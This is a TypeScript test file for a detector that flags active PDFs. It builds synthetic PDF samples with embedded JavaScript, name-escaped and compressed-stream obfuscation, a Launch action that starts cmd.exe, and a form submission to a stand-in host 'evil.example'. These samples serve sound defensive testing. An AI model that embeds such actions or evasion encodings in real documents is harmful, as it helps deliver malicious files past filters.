import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { isActivePdf } from './active-pdf.ts';

const pdf = (body: string): Buffer => Buffer.from(`%PDF-1.7\n${body}\n%%EOF\n`, 'latin1');
const objectStream = (content: string, dictionary = '/Type /ObjStm /Filter /FlateDecode'): Buffer => {
  const data = deflateSync(Buffer.from(content, 'latin1'));
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n5 0 obj\n<< ${dictionary} /Length ${data.length} >>\nstream\n`),
    data,
    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
  ]);
};
const script = '1 0 << /S /JavaScript /JS (app.alert(1)) >>';

const active: readonly (readonly [string, Buffer])[] = [
  ['a script', pdf(`1 0 obj\n<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>\nendobj`)],
  ['a script with escaped letters', pdf('1 0 obj\n<< /S /J#61vaScr#69pt >>\nendobj')],
  ['a script in an object stream', objectStream(script)],
  [
    'a script in an object stream with an escaped type',
    objectStream(script, '/Type /Obj#53tm /Filter /FlateDecode'),
  ],
  [
    'a script in an object stream with a list of one filter',
    objectStream(script, '/Type /ObjStm /Filter [/FlateDecode]'),
  ],
  [
    'an object stream whose dictionary hides its beginning',
    objectStream(script, '/Type /ObjStm /X (9 0 obj) /Filter /FlateDecode'),
  ],
  ['an object stream with another filter', objectStream('1 0 << >>', '/Type /ObjStm /Filter /LZWDecode')],
  [
    'an object stream with two filters',
    objectStream('1 0 << >>', '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]'),
  ],
  [
    'an object stream with a predictor',
    objectStream('1 0 << >>', '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>'),
  ],
  [
    'an object stream that is damaged',
    pdf('5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nno deflate\nendstream'),
  ],
  ['an object stream of 40 MB', objectStream(' '.repeat(40 * 1024 * 1024))],
  ['a program that starts', pdf('<< /S /Launch /F (cmd.exe) >>')],
  ['a form that is sent', pdf('<< /S /SubmitForm /F (https://evil.example) >>')],
  ['an attachment', pdf('<< /Type /Catalog /Names << /EmbeddedFiles 7 0 R >> >>')],
  ['a form of XFA', pdf('<< /AcroForm << /XFA 9 0 R >> >>')],
  ['a password', pdf('trailer << /Encrypt 3 0 R >>')],
];

describe('a PDF', () => {
  it.each(active)('[DR-14.10] [RL-67] with %s is refused', async (_, bytes) =>
    expect(await isActivePdf(bytes)).toBe(true),
  );

  it.each([
    ['pages and a picture', pdf('1 0 obj\n<< /Type /Page /Contents 2 0 R >>\nendobj')],
    ['an object stream', objectStream('1 0 << /Type /Page >>')],
    ['a first page to open', pdf('<< /OpenAction [3 0 R /Fit] >>')],
    ['a name that only begins alike', pdf('<< /LaunchPad 1 /JavaScripting 2 >>')],
  ])('[DR-14.10] with %s is not active', async (_, bytes) => expect(await isActivePdf(bytes)).toBe(false));
});
